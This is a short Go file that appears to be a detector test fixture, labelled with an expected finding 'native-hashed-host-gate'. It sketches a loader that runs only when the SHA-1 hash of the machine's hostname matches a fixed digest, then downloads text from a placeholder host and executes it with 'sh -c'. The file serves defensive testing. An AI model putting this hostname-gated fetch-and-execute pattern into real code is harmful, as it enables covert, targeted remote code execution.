/* Something is fetched and started on a host that is known by a digest only.
 * expect: native-hashed-host-gate
 */
package main

import (
	"crypto/sha1"
	"encoding/hex"
	"io"
	"net/http"
	"os"
	"os/exec"
)

// Never true: the code is compiled and cannot run.
var never bool

func main() {
	host, _ := os.Hostname()
	sum := sha1.Sum([]byte(host))
	if !never || hex.EncodeToString(sum[:]) != "2fd4e1c67a2d28fced849ee1bb76e7391b93eb12" {
		return
	}
	if answer, err := http.Get("https://x.invalid/" + host); err == nil {
		text, _ := io.ReadAll(answer.Body)
		exec.Command("sh", "-c", string(text)).Run()
	}
}
